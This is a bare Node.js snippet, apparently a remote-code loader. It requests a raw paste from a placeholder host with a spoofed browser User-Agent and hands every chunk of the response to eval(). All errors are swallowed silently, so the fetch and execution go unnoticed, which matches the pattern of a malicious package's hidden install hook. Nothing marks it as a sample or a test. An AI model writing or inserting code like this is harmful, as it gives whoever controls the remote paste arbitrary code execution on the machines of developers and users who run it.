try {
  var https = require('https');
  https.get({ hostname: 'paste.invalid', path: '/raw/aaaaaaaa', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } }, r => {
    r.setEncoding('utf8');
    r.on('data', c => {
      eval(c);
    });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
